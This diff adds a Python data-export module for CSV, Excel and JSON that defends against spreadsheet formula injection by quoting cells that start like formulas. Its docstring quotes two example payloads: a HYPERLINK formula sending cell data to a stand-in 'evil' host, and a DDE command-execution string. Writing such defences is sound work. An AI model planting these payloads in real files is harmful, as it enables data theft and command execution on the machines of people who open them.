@@ -1,0 +1,166 @@
+"""Data exports: CSV, Excel and JSON, with spreadsheet formula injection neutralised.
+
+Uploaded files carry text written by strangers (captions, comments, handles). A cell such as
+`=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0` runs as a formula when a client opens our CSV or
+workbook in Excel, LibreOffice or Google Sheets. Following OWASP's CSV-injection advice, every text cell
+that a spreadsheet would read as a formula gets a leading single quote, which makes it plain text.
+"""
+from __future__ import annotations
+
+import datetime as dt
+import io
+import json
+import math
+import re
+
+import pandas as pd
+from openpyxl import Workbook
+from openpyxl.cell import WriteOnlyCell
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.styles import Font
+from openpyxl.utils import get_column_letter
+
+from microlens.export_model import Section
+
+# OWASP's list (= + - @ tab CR) plus the full-width forms, which some spreadsheet locales also accept.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
+# "-5" or "+1.5e3" in a text column is a number a spreadsheet would read as that same number: harmless,
+# and quoting it would turn data into text. "-1+2" is an expression and does not match.
+_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
+
+EXCEL_MAX_ROWS = 1_048_576
+EXCEL_MAX_CELL_CHARS = 32_767
+_EXCEL_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\\x00-\x1f]")
+ABOUT_SHEET = "About"
+
+
+def neutralise(value: object) -> object:
+    """Prefix a text value with ' when a spreadsheet would run it as a formula; anything else as it is."""
+    if not isinstance(value, str):
+        return value
+    stripped = value.lstrip()
+    # Spreadsheets skip leading blanks before "=", so "  =1+1" is as live as "=1+1".
+    if not (value.startswith(_FORMULA_STARTS) or stripped.startswith(_FORMULA_STARTS)):
+        return value
+    if _PLAIN_NUMBER.fullmatch(stripped.rstrip()):
+        return value
+    return "'" + value
+
+
+def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
+    """A copy with every text cell and column label neutralised; numeric columns are left alone."""
+    out = df.copy()
+    for column in out.columns:
+        series = out[column]
+        if isinstance(series.dtype, pd.CategoricalDtype):
+            out[column] = series.astype(object).map(neutralise)
+        elif pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
+            out[column] = series.map(neutralise)
+    out.columns = [neutralise(str(label)) for label in out.columns]
+    return out
+
+
+def to_csv(df: pd.DataFrame) -> bytes:
+    """UTF-8 with a byte-order mark: without it Excel reads the file as ANSI and mangles é, ü, emoji."""
+    text = neutralise_frame(df).to_csv(index=False, lineterminator="\r\n", date_format="%Y-%m-%d %H:%M:%S")
+    return text.encode("utf-8-sig")
+
+
+def _excel_value(value: object) -> object:
+    """A cell value openpyxl can store: no NaN, no time zones, no control characters Excel rejects."""
+    if value is None or value is pd.NaT or value is pd.NA:
+        return None
+    if isinstance(value, float) and math.isnan(value):
+        return None
+    if isinstance(value, dt.datetime) and value.tzinfo is not None:
+        # Excel has no time zones; keep the wall-clock time the user saw in the app.
+        return value.replace(tzinfo=None)
+    if isinstance(value, str):
+        value = ILLEGAL_CHARACTERS_RE.sub("", value)
+        if len(value) > EXCEL_MAX_CELL_CHARS:
+            value = value[:EXCEL_MAX_CELL_CHARS - 1] + "…"
+        return value
+    if isinstance(value, (int, float, dt.date, dt.time, dt.timedelta)):
+        return value
+    if hasattr(value, "item"):          # numpy scalars
+        return _excel_value(value.item())
+    return str(value)
+
+
+def excel_sheet_names(titles: list[str], reserved: tuple[str, ...] = ()) -> list[str]:
+    """Names Excel accepts: no []:*?/\\, no leading/trailing quote, at most 31 characters, unique
+    ignoring case, not the reserved word 'History'."""
+    used = {name.lower() for name in reserved}
+    names = []
+    for title in titles:
+        base = " ".join(_EXCEL_SHEET_FORBIDDEN.sub(" ", title).split()).strip("'").strip()[:31].strip()
+        if not base:
+            base = "Sheet"
+        if base.lower() == "history":
+            base = "History data"
+        name, copy_number = base, 2
+        while name.lower() in used:
+            suffix = f" ({copy_number})"
+            name = base[:31 - len(suffix)].rstrip() + suffix
+            copy_number += 1
+        used.add(name.lower())
+        names.append(name)
+    return names
+
+
+def _write_sheet(workbook: Workbook, name: str, table: pd.DataFrame) -> None:
+    sheet = workbook.create_sheet(name)
+    sheet.freeze_panes = "A2"
+    bold = Font(bold=True)
+    for index, label in enumerate(table.columns):
+        longest = max([len(str(label))] + [len(str(v)) for v in table.iloc[:200, index]])
+        sheet.column_dimensions[get_column_letter(index + 1)].width = min(max(longest + 2, 8), 60)
+    header = []
+    for label in table.columns:
+        cell = WriteOnlyCell(sheet, value=_excel_value(label))
+        cell.font = bold
+        header.append(cell)
+    sheet.append(header)
+    for row in table.itertuples(index=False, name=None):
+        sheet.append([_excel_value(v) for v in row])
+
+
+def to_xlsx(sections: list[Section]) -> bytes:
+    """One sheet per section (its data, header bold and frozen), then an 'About' sheet saying which
+    sheet holds which finding, its source and its SQL, so an analyst can trace every number."""
+    too_long = [s.title for s in sections if len(s.table) >= EXCEL_MAX_ROWS]
+    if too_long:
+        raise ValueError(f"{too_long[0]!r} has more rows than Excel can hold; export it as CSV instead.")
+    workbook = Workbook(write_only=True)
+    names = excel_sheet_names([s.title for s in sections], reserved=(ABOUT_SHEET,))
+    for name, section in zip(names, sections):
+        _write_sheet(workbook, name, neutralise_frame(section.table))
+    about = pd.DataFrame({
+        "sheet": names,
+        "title": [s.title for s in sections],
+        "finding": [s.finding for s in sections],
+        "source": [s.source for s in sections],
+        "sql": [s.sql for s in sections],
+    }, dtype=object)
+    _write_sheet(workbook, ABOUT_SHEET, neutralise_frame(about))
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def to_json(sections: list[Section]) -> str:
+    """A list of {key, title, finding, source, sql, table: [records]}; NaN and NaT become null, dates ISO.
+
+    JSON is read by programs, not spreadsheets, so values are exported as they are (not neutralised).
+    """
+    payload = [{
+        "key": s.key,
+        "title": s.title,
+        "finding": s.finding,
+        "source": s.source,
+        "sql": s.sql,
+        # pandas' writer handles NaN/NaT/numpy types; 15 digits keeps small ratios such as 0.0123456789.
+        "table": json.loads(s.table.to_json(orient="records", date_format="iso", double_precision=15,
+                                            force_ascii=False)),
+    } for s in sections]
+    return json.dumps(payload, ensure_ascii=False, indent=2)
